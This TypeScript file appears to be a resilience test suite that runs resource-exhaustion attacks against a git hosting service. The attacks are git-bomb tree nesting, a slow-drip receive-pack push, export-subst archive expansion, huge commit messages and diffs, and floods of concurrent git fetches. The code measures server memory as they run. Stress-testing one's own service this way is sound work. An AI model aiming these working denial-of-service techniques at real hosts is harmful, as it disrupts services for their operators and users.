import { readdirSync, readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, type Attacker, ask, git, newProject, repeat, repositoryUrl } from './attacker.ts';
import { blobOf, commitOf, emptyRepository, many, outcome, push, treeOf } from './repository.ts';

/** Repositories that are small on the wire and large once they are read. */

/** Pushes the prepared repository to a new project, and then reads `place` in it repeatedly. */
async function pushThenRead(attacker: Attacker, place: string): Promise<(until: AbortSignal) => Promise<string>> {
  const project = await newProject(attacker);
  const pushed = outcome(await push(attacker, project));
  const path = `/projects/${project}/${place}`;
  return async (until) =>
    `${pushed}; ${await repeat(until, async () => (await ask(attacker, ['GET', path], until)).status, 20)}`;
}

const sharedTrees: Attack = {
  name: 'H2 push of nested shared trees',
  async prepare({ attacker }) {
    await emptyRepository(attacker);
    const blob = await blobOf(attacker, 'x\n');
    let tree = await treeOf(
      attacker,
      many(10_000, (index) => `100644 blob ${blob}\tf${index}`),
    );
    for (let level = 0; level < 4; level++)
      tree = await treeOf(
        attacker,
        many(10, (index) => `040000 tree ${tree}\td${index}`),
      );
    await commitOf(attacker, tree);
    const project = await newProject(attacker);
    return async (until) => {
      const pushed = outcome(await push(attacker, project, until));
      const read = await repeat(
        until,
        async () => (await ask(attacker, ['GET', `/projects/${project}/files?ref=main`], until)).status,
      );
      return `${pushed}; files at the ref: ${read}`;
    };
  },
};

const oneBlob: Attack = {
  name: 'H3 one blob at 9,900 paths, then its commit',
  async prepare({ attacker }) {
    await emptyRepository(attacker);
    const blob = await blobOf(attacker, 'a line of text\n'.repeat(17_000));
    const sha = await commitOf(
      attacker,
      await treeOf(
        attacker,
        many(9_900, (index) => `100644 blob ${blob}\tf${index}`),
      ),
    );
    return pushThenRead(attacker, `commits/${sha}`);
  },
};

const drip: Attack = {
  name: 'H4 a push that drips 0004 packets',
  async prepare({ attacker }) {
    const project = await newProject(attacker);
    return (until) =>
      new Promise((resolve) => {
        const request = httpRequest(`${attacker.url}/git/${project}.git/git-receive-pack`, {
          method: 'POST',
          auth: `abuse:${attacker.key}`,
          headers: { 'content-type': 'application/x-git-receive-pack-request', 'transfer-encoding': 'chunked' },
        });
        let isOver = false;
        const end = (what: string) => {
          isOver = true;
          request.destroy();
          resolve(what);
        };
        request.on('response', (answer) => end(`answered with ${answer.statusCode}`));
        request.on('error', () => end('the connection was ended'));
        void (async () => {
          const packets = '0004'.repeat(4096);
          while (!until.aborted && !isOver) {
            if (!request.write(packets))
              await Promise.race([new Promise((go) => request.once('drain', go)), pause(500)]);
            await pause(5);
          }
          if (!isOver) end('it dripped to the end');
        })();
      });
  },
};

const exportSubst: Attack = {
  name: 'M8 archive with export-subst',
  async prepare({ attacker }) {
    await emptyRepository(attacker);
    const attributes = await blobOf(attacker, '* export-subst\n');
    const blob = await blobOf(attacker, '$Format:%B$\n'.repeat(90_000));
    const entries = [`100644 blob ${attributes}\t.gitattributes`, `100644 blob ${blob}\ta.txt`];
    await commitOf(attacker, await treeOf(attacker, entries), 'm'.repeat(9_000));
    return pushThenRead(attacker, 'archive');
  },
};

const longMessage: Attack = {
  name: 'M8 commit message of 40 MiB, listed',
  async prepare({ attacker }) {
    await emptyRepository(attacker);
    const blob = await blobOf(attacker, 'x\n');
    await commitOf(attacker, await treeOf(attacker, [`100644 blob ${blob}\ta.txt`]), 'm'.repeat(40 * 1024 * 1024));
    return pushThenRead(attacker, 'commits?limit=100');
  },
};

const manyProcesses: Attack = {
  name: 'M8 many git processes',
  async prepare({ attacker }) {
    await emptyRepository(attacker);
    const blob = await blobOf(attacker, 'x\n'.repeat(50_000));
    await commitOf(attacker, await treeOf(attacker, [`100644 blob ${blob}\ta.txt`]));
    const project = await newProject(attacker);
    await push(attacker, project);
    const url = `${attacker.url}/git/${project}.git/info/refs?service=git-upload-pack`;
    const headers = { authorization: `Basic ${Buffer.from(`abuse:${attacker.key}`).toString('base64')}` };
    const fetchOnce = async (signal: AbortSignal) => {
      const answer = await fetch(url, { headers, signal });
      await answer.arrayBuffer();
      return answer.status;
    };
    return async (until) => {
      const clients = many(100, String).map(() => repeat(until, () => fetchOnce(until), 100));
      return `100 at once; one of them: ${(await Promise.all(clients))[0]}`;
    };
  },
};

/** Current memory of all git processes of this machine, in MiB. */
function memoryOfGit(): number {
  const pids = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  const sizes = pids.map((pid) => {
    try {
      const status = readFileSync(`/proc/${pid}/status`, 'utf8');
      return /^Name:\s+git$/m.test(status) ? Number(/^VmRSS:\s+(\d+)/m.exec(status)?.[1] ?? 0) : 0;
    } catch {
      return 0;
    }
  });
  return Math.round(sizes.reduce((sum, size) => sum + size, 0) / 1024);
}

const emptyLines: Attack = {
  name: 'S5 six comparisons of nine million empty lines',
  async prepare({ attacker }) {
    await emptyRepository(attacker);
    const { directory } = attacker;
    const lines = '\n'.repeat(9 * 1024 * 1024);
    const commit = async (content: string, ...parents: string[]) => {
      const tree = await treeOf(attacker, [`100644 blob ${await blobOf(attacker, content)}\ta.txt`]);
      return (await git(directory, ['commit-tree', tree, '-m', 'x', ...parents.flatMap((sha) => ['-p', sha])])).stdout;
    };
    const base = await commit(lines);
    const [ours, theirs] = [await commit(`ours${lines}`, base), await commit(`theirs${lines}`, base)];
    const project = await newProject(attacker);
    const refs = [`${ours}:refs/heads/main`, `${theirs}:refs/heads/feature`];
    const pushed = outcome(await git(directory, ['push', '--quiet', repositoryUrl(attacker, project), ...refs]));
    const path = `/projects/${project}/compare?base=main&head=feature`;
    return async (until) => {
      let max = 0;
      const looking = setInterval(() => {
        max = Math.max(max, memoryOfGit());
      }, 50);
      const all = many(6, String).map(() =>
        repeat(until, async () => (await ask(attacker, ['GET', path], until)).status, 20),
      );
      const [first] = await Promise.all(all);
      clearInterval(looking);
      return `${pushed}; git held ${max} MiB at most; one of them: ${first}`;
    };
  },
};

export const gitAttacks: Attack[] = [sharedTrees, oneBlob, drip, exportSubst, longMessage, manyProcesses, emptyLines];
